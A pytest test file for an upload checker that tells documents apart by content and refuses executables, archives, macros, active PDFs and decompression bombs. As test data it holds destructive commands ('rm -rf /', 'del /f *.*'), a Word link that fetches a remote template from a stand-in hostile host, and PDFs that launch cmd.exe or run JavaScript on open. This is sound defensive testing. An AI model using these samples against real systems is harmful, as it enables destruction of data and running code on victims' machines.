import time
import zipfile
import zlib
from io import BytesIO

import pytest
from PIL import Image

from gongzhi.core.documents import DOCX, PDF, TEXT, XLSX, DocumentType, check_document
from gongzhi.core.errors import Invalid

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.{}"/></Types>'
)
WORD = CONTENT_TYPES.format("wordprocessingml.document.main+xml")
EXCEL = CONTENT_TYPES.format("spreadsheetml.sheet.main+xml")
LINK = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="{}" TargetMode="External"/></Relationships>'
)


def package(parts: dict[str, str | bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(**more: str | bytes) -> bytes:
    return package({"[Content_Types].xml": WORD, "word/document.xml": "<document/>", **more})


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    body = b"\n".join(b"%d 0 obj\n%b\nendobj" % (number, content) for number, content in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"\ntrailer\n<< /Root 1 0 R " + trailer + b">>\nstartxref\n9\n%%EOF\n"


def stream(content: bytes, head: bytes = b"", *, deflate: bool = True) -> bytes:
    packed = zlib.compress(content) if deflate else content
    how = b"/Filter /FlateDecode " if deflate else b""
    return b"<< /Length %d %b%b>>\nstream\n%b\nendstream" % (len(packed), how, head, packed)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def check(content: bytes, name: str = "材料") -> DocumentType:
    return check_document(BytesIO(content), name)


def refusal(content: bytes, name: str = "材料") -> str:
    with pytest.raises(Invalid) as refused:
        check(content, name)
    message = str(refused.value)
    assert message.endswith("文件没有上传，其余内容已保存。")
    return message.removesuffix("文件没有上传，其余内容已保存。")


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (pdf(CATALOG), "a.pdf", PDF),
        (pdf(CATALOG, stream(b"BT (hello) Tj ET")), "a.pdf", PDF),
        (word(), "a.docx", DOCX),
        (package({"[Content_Types].xml": EXCEL, "xl/workbook.xml": "<workbook/>"}), "a.xlsx", XLSX),
        ("您好，这是说明。\r\n第二行\t完".encode(), "a.txt", TEXT),
        ("\ufeff您好".encode(), "a.TXT", TEXT),
        ("您好".encode("gb18030"), "a.txt", TEXT),
        ("您好".encode("utf-16"), "a.txt", TEXT),
    ],
)
def test_documents_are_told_by_their_content(content: bytes, name: str, kind: DocumentType) -> None:
    assert check(content, name) == kind


def test_the_name_tells_nothing_where_the_content_can() -> None:
    assert check(pdf(CATALOG), "照片.jpg") == PDF
    assert check(word(), "没有扩展名") == DOCX


# --- What is no document ---


@pytest.mark.parametrize(
    ("content", "name", "reason"),
    [
        (b"MZ" + b"\0" * 300, "发票.pdf", "这是程序文件，不能上传。"),
        (b"\x7fELF\x02\x01" + b"\0" * 300, "a.pdf", "这是程序文件，不能上传。"),
        (b"#!/bin/sh\nrm -rf /\n", "a.pdf", "不支持这种文件。"),
        (package({"照片.jpg": b"x"}), "a.docx", "不接受压缩包。"),
        (b"Rar!\x1a\x07\x01\x00" + b"\0" * 100, "a.pdf", "不接受压缩包。"),
        (b"7z\xbc\xaf\x27\x1c" + b"\0" * 100, "a.docx", "不接受压缩包。"),
        (b"\x1f\x8b\x08" + b"\0" * 100, "a.pdf", "不接受压缩包。"),
        (b"{\\rtf1\\ansi hello}", "a.txt", "这是旧版的 Word、Excel 或 WPS 文件。"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.docx", "这是旧版的 Word、Excel 或 WPS 文件。"),
        (b"<html><script>alert(1)</script></html>", "a.html", "不支持这种文件。"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "不支持这种文件。"),
        (b"del /f *.*", "a.bat", "不支持这种文件。"),
        (b"text\0with a zero", "a.txt", "不支持这种文件。"),
        (b"\x00\x01\x02\x03" * 50, "a.txt", "不支持这种文件。"),
        (b"  \n ", "a.txt", "不支持这种文件。"),
        (b"", "a.pdf", "不支持这种文件。"),
    ],
)
def test_other_files_are_refused_with_a_way_out(content: bytes, name: str, reason: str) -> None:
    assert refusal(content, name).startswith(reason)


def test_a_picture_is_sent_to_the_place_for_pictures() -> None:
    buffer = BytesIO()
    Image.new("RGB", (20, 20)).save(buffer, "GIF")
    assert refusal(buffer.getvalue(), "a.pdf") == "这是图片或影音文件。照片请从“照片”处上传。"


# --- Word and Excel ---


@pytest.mark.parametrize(
    "content",
    [
        word(**{"word/vbaProject.bin": b"x"}),
        word(**{"WORD/VBAPROJECT.BIN": b"x"}),
        package({"[Content_Types].xml": EXCEL, "xl/workbook.xml": "", "xl/macrosheets/sheet1.xml": ""}),
        word(**{"word/activeX/activeX1.bin": b"x"}),
        word(**{"word/embeddings/oleObject1.bin": b"MZ"}),
        word(**{"word/media/setup.exe": b"MZ"}),
    ],
)
def test_macros_and_programs_in_office_files_are_refused(content: bytes) -> None:
    assert refusal(content).startswith("文件里有宏或其他程序，不能上传。")


def test_a_macro_document_without_the_macro_part_is_refused() -> None:
    listing = WORD.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")
    assert refusal(package({"[Content_Types].xml": listing})).startswith("文件里有宏或其他程序，不能上传。")


def test_a_chart_with_its_table_is_taken() -> None:
    assert check(word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"})) == DOCX


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_a_document_that_fetches_code_from_elsewhere_is_refused(kind: str) -> None:
    content = word(**{"word/_rels/settings.xml.rels": LINK.format(kind, "http://evil.example/a.dotm")})
    assert refusal(content).startswith("文件里有宏或其他程序，不能上传。")


def test_a_link_in_the_text_is_taken() -> None:
    assert check(word(**{"word/_rels/document.xml.rels": LINK.format("hyperlink", "https://example.com")})) == DOCX


def test_other_office_packages_are_refused() -> None:
    slides = CONTENT_TYPES.format("presentationml.presentation.main+xml")
    assert refusal(package({"[Content_Types].xml": slides})).startswith("不支持这种文件。")


def test_an_encrypted_office_file_says_so() -> None:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 99
    assert refusal(content).startswith("文件加了密码，无法检查。")


def test_an_encrypted_part_says_so() -> None:
    content = bytearray(word())
    directory = content.find(b"PK\x01\x02")
    content[directory + 8] |= 1
    assert refusal(bytes(content)).startswith("文件加了密码，无法检查。")


def test_bombs_are_refused_without_unpacking_them() -> None:
    bomb = word(**{"word/media/zeros.bin": b"\0" * 50_000_000})
    assert len(bomb) < 100_000
    started = time.monotonic()
    assert refusal(bomb).startswith("文件解压后太大，无法检查。")
    assert time.monotonic() - started < 1
    many = word(**{f"word/media/{number}.xml": b"" for number in range(3001)})
    assert refusal(many).startswith("文件解压后太大，无法检查。")


def test_a_part_that_lies_about_its_size_is_refused() -> None:
    content = bytearray(package({"[Content_Types].xml": WORD + " " * 100_000, "word/document.xml": ""}))
    directory = content.find(b"PK\x01\x02")
    content[directory + 24 : directory + 28] = (500).to_bytes(4, "little")
    assert refusal(bytes(content)).startswith("文件不完整或已损坏。")


@pytest.mark.parametrize(
    "listing",
    [
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><Types>&a;</Types>',
        "<Types>",
        "",
        WORD.encode("utf-16"),
    ],
)
def test_a_strange_listing_is_refused(listing: str | bytes) -> None:
    assert refusal(package({"[Content_Types].xml": listing})).startswith("文件不完整或已损坏。")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused() -> None:
    buffer = BytesIO(word())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/document.xml", "<other/>")
    assert refusal(buffer.getvalue()).startswith("文件不完整或已损坏。")


def test_half_an_office_file_is_refused() -> None:
    content = word()
    assert refusal(content[: len(content) // 2]).startswith("文件不完整或已损坏。")


# --- PDF ---

OPENS_SCRIPT = b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"


@pytest.mark.parametrize(
    "content",
    [
        pdf(OPENS_SCRIPT),
        pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
        pdf(CATALOG, b"<< /S /J#61v#61Script /JS 3 0 R >>"),
        pdf(CATALOG, stream(b"1 0 " + OPENS_SCRIPT, b"/Type /ObjStm /N 1 /First 4 ")),
        pdf(CATALOG, stream(b"1 0 " + OPENS_SCRIPT, b"/Type /Obj#53tm /N 1 /First 4 ")),
        pdf(CATALOG, stream(b"1 0 " + OPENS_SCRIPT, b"/Type /ObjStm /N 1 /First 4 ", deflate=False)),
        pdf(CATALOG, b"% >>stream\n", OPENS_SCRIPT, b"% endstream"),
        pdf(CATALOG, stream(b"MZ\x90\0 a program", b"/Type /EmbeddedFile ")),
        pdf(CATALOG, stream(package({"a": b""}), b"/Type /EmbeddedFile ")),
        pdf(CATALOG, b"<< /Type /ObjStm /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream"),
        pdf(CATALOG, b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\nabc\nendstream"),
        pdf(CATALOG, b"<< /Subtype /RichMedia >>"),
        pdf(b"<< /AcroForm << /XFA 3 0 R >> >>"),
    ],
)
def test_active_pdfs_are_refused(content: bytes) -> None:
    assert refusal(content).startswith("PDF 里有脚本、程序或自动执行的动作，不能上传。")


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"),
        pdf(CATALOG, b"<< /A << /S /URI /URI (https://example.com) >> >>"),
        pdf(CATALOG, stream(b"1 0 " + CATALOG, b"/Type /ObjStm /N 1 /First 4 ")),
        # an electronic invoice carries its data along
        pdf(CATALOG, stream(b"<?xml version='1.0'?><invoice/>", b"/Type /EmbeddedFile ")),
        pdf(CATALOG, b"<< /EncryptMetadata false /JavaScriptX 1 >>"),
    ],
)
def test_harmless_pdfs_are_taken(content: bytes) -> None:
    assert check(content) == PDF


def test_an_encrypted_pdf_says_so() -> None:
    assert refusal(pdf(CATALOG, trailer=b"/Encrypt 3 0 R ")).startswith("文件加了密码，无法检查。")


def test_half_a_pdf_is_refused() -> None:
    content = pdf(CATALOG, stream(b"x" * 5000, deflate=False))
    assert refusal(content[: len(content) // 2]).startswith("文件不完整或已损坏。")
    assert refusal(pdf(CATALOG, stream(b"x", b"/Type /ObjStm ").replace(b"x\x9c", b"!!"))).startswith("文件不完整")


def test_a_pdf_bomb_is_refused() -> None:
    bomb = pdf(CATALOG, stream(b"\0" * 70_000_000, b"/Type /ObjStm "))
    assert len(bomb) < 100_000
    assert refusal(bomb).startswith("文件解压后太大，无法检查。")


@pytest.mark.parametrize(
    "filling",
    [b"<<", b">>stream\n", b"obj", b"/Encryp", b"#4", b">>stream\nendstream", b"\0", b">>" + b" " * 7, b"/Filter["],
)
def test_no_filling_makes_the_scan_slow(filling: bytes) -> None:
    content = pdf(CATALOG, filling * (4_000_000 // len(filling)))
    started = time.monotonic()
    assert check(content) == PDF
    assert time.monotonic() - started < 5
